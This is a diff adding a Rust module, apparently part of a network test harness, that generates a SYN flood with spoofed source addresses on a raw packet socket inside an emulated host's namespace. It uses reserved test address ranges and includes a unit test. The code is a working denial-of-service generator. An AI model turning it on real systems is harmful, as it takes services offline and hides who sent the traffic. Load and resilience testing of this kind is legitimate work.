@@ -1,0 +1,137 @@
+//! A SYN flood: TCP packets with SYN, each of another flow, from addresses that nobody has.
+//!
+//! They are sent as whole frames on a packet socket, so the kernel of the sending host takes no part.
+
+use std::net::{IpAddr, Ipv4Addr, Ipv6Addr, SocketAddr};
+use std::time::{Duration, Instant};
+
+use anyhow::{Context, Result, bail};
+use etherparse::PacketBuilder;
+use nix::net::if_::if_nametoindex;
+use socket2::{Domain, Protocol, SockAddr, SockAddrStorage, Socket, Type};
+
+use crate::host::{Host, Port};
+
+/// What was sent.
+#[derive(Clone, Copy, Debug)]
+pub struct FloodReport {
+    /// SYNs.
+    pub sent: u64,
+    /// How long it took.
+    pub took: Duration,
+}
+
+/// Sends `count` SYNs for `to` from a host's first interface to `gateway`, or as many as it can within
+/// `limit`. `seed` makes floods different.
+pub fn flood(
+    host: &Host,
+    gateway: &Port,
+    to: SocketAddr,
+    seed: u32,
+    count: u64,
+    limit: Duration,
+) -> Result<FloodReport> {
+    let port = &host.ports[0];
+    let macs = (parse_mac(&port.mac)?, parse_mac(&gateway.mac)?);
+    host.ns.enter(|| {
+        let socket = packet_socket(&port.interface)?;
+        let begun = Instant::now();
+        let mut frame = Vec::with_capacity(128);
+        let mut sent = 0;
+        while sent < count && begun.elapsed() < limit {
+            for _ in 0..256.min(count - sent) {
+                write_syn(&mut frame, macs, to, seed, sent)?;
+                match socket.send(&frame) {
+                    Ok(_) => {}
+                    // The queue of the interface is full: that one is lost, as in a real flood.
+                    Err(error) if error.raw_os_error() == Some(libc::ENOBUFS) => {}
+                    Err(error) => return Err(error).context("sending a SYN"),
+                }
+                sent += 1;
+            }
+        }
+        Ok(FloodReport {
+            sent,
+            took: begun.elapsed(),
+        })
+    })
+}
+
+type Mac = [u8; 6];
+
+fn parse_mac(text: &str) -> Result<Mac> {
+    let bytes: Vec<u8> = text
+        .split(':')
+        .map(|byte| u8::from_str_radix(byte, 16))
+        .collect::<Result<_, _>>()
+        .with_context(|| format!("hardware address {text}"))?;
+    match bytes.try_into() {
+        Ok(mac) => Ok(mac),
+        Err(_) => bail!("hardware address {text}"),
+    }
+}
+
+/// The SYN with this number: 2¹⁷ addresses, each with its ports.
+fn write_syn(
+    frame: &mut Vec<u8>,
+    (from_mac, to_mac): (Mac, Mac),
+    to: SocketAddr,
+    seed: u32,
+    number: u64,
+) -> Result<()> {
+    let number = number as u32;
+    let host = number & 0x1_ffff;
+    let port = 1024 + (number >> 17).wrapping_add(seed.wrapping_mul(1024)) as u16 % 64_000;
+    let ethernet = PacketBuilder::ethernet2(from_mac, to_mac);
+    let packet = match to.ip() {
+        IpAddr::V4(to) => {
+            // The network of RFC 2544: for tests, routed nowhere.
+            let from = Ipv4Addr::from(u32::from(Ipv4Addr::new(198, 18, 0, 0)) | host);
+            ethernet.ipv4(from.octets(), to.octets(), 64)
+        }
+        IpAddr::V6(to) => {
+            let net = u128::from(Ipv6Addr::new(0x2001, 0xdb8, 0xf100, 0, 0, 0, 0, 0));
+            let from = Ipv6Addr::from(net | u128::from(host));
+            ethernet.ipv6(from.octets(), to.octets(), 64)
+        }
+    };
+    frame.clear();
+    let syn = packet.tcp(port, to.port(), number, 65_535).syn();
+    syn.write(frame, &[]).context("building a SYN")
+}
+
+/// A socket that sends frames by an interface of the calling thread's namespace, and receives none.
+fn packet_socket(interface: &str) -> Result<Socket> {
+    let socket = Socket::new(Domain::PACKET, Type::RAW, None::<Protocol>)
+        .context("a packet socket (needs root)")?;
+    let ifindex = if_nametoindex(interface).with_context(|| interface.to_owned())?;
+    let mut storage = SockAddrStorage::zeroed();
+    // SAFETY: the storage is larger than a `sockaddr_ll`, aligned for any address, and all zero is a
+    // valid one.
+    let address = unsafe { storage.view_as::<libc::sockaddr_ll>() };
+    address.sll_family = libc::AF_PACKET as u16;
+    address.sll_ifindex = ifindex.cast_signed();
+    // SAFETY: the storage holds a `sockaddr_ll` of this length.
+    let address =
+        unsafe { SockAddr::new(storage, size_of::<libc::sockaddr_ll>() as libc::socklen_t) };
+    socket
+        .bind(&address)
+        .with_context(|| format!("binding to {interface}"))?;
+    Ok(socket)
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn every_syn_is_another_flow() {
+        let mut seen = std::collections::HashSet::new();
+        let to = "192.0.2.1:80".parse().unwrap();
+        let mut frame = Vec::new();
+        for number in (0..1 << 20).step_by(509) {
+            write_syn(&mut frame, ([2; 6], [4; 6]), to, 1, number).unwrap();
+            assert!(seen.insert(frame[26..36].to_vec()), "number {number}");
+        }
+    }
+}
